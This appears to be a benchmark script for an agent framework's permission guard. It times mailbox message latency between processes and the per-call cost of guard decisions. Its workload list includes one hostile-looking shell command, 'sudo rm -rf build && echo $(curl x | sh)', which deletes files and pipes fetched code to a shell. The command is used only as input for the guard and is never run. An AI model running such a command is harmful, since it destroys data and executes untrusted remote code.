"""Agent-side figures: mailbox delivery latency between two processes, guard decision cost.

Run alone with ``python tests/bench/agents.py [--quick]`` or through bench.py.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

from toold.permissions.guard import PermissionGuard
from toold.permissions.rules import parse_rules
from toold.team.manager import TeamManager

SENDER = """
import sys, time
from pathlib import Path
from toold.team.mailbox import Mailboxes, new_message
boxes = Mailboxes(Path(sys.argv[1]))
for line in sys.stdin:
    message = new_message("alice", "main", str(time.time()), "response")
    boxes.append(message)
"""


async def _mailbox_latency(count: int) -> list[float]:
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        arrived: asyncio.Queue[float] = asyncio.Queue()

        def push(message: dict[str, Any]) -> None:
            arrived.put_nowait(time.time() - float(message["content"]))

        team = TeamManager(root, root / ".toold", agents=None, push=push)
        team.start()
        (root / ".toold" / "mailboxes").mkdir(parents=True, exist_ok=True)
        await asyncio.sleep(0.2)  # let the watcher arm before the first message
        sender = subprocess.Popen(
            [sys.executable, "-c", SENDER, str(root / ".toold" / "mailboxes")],
            stdin=subprocess.PIPE,
            text=True,
        )
        assert sender.stdin is not None
        samples = []
        try:
            for _ in range(count):
                sender.stdin.write("go\n")
                sender.stdin.flush()
                samples.append(await asyncio.wait_for(arrived.get(), 10))
        finally:
            sender.stdin.close()
            sender.wait(timeout=10)
            await team.close()
        return samples


def _guard_cost(calls: int) -> dict[str, float]:
    guard = PermissionGuard(
        mode="default",
        allow=parse_rules(["bash(prefix:npm test*)", "read_file"]),
        deny=parse_rules(["bash(prefix:git push*)"]),
    )
    workload = [
        ("read_file", {"file_path": "src/main.py"}),
        ("bash", {"command": "git status"}),
        ("bash", {"command": "sudo rm -rf build && echo $(curl x | sh)"}),
        ("write_file", {"file_path": "a.txt", "content": "x"}),
        ("grep", {"pattern": "TODO"}),
    ]
    started = time.perf_counter()
    for i in range(calls):
        tool, args = workload[i % len(workload)]
        guard.decide(tool, args)
    per_call_us = (time.perf_counter() - started) / calls * 1e6
    return {"calls": calls, "mean_us": round(per_call_us, 2)}


def bench_agents(quick: bool) -> dict[str, Any]:
    """Mailbox latency (ms) and guard decision cost (µs)."""
    samples = asyncio.run(_mailbox_latency(10 if quick else 50))
    ms = sorted(s * 1000 for s in samples)
    return {
        "mailbox_latency_ms": {
            "samples": len(ms),
            "median": round(statistics.median(ms), 2),
            "p90": round(ms[int(0.9 * (len(ms) - 1))], 2),
            "max": round(ms[-1], 2),
            "target": 100,
        },
        "guard_decision": _guard_cost(20_000 if quick else 200_000),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--quick", action="store_true")
    print(json.dumps(bench_agents(parser.parse_args().quick), indent=2))


if __name__ == "__main__":
    main()
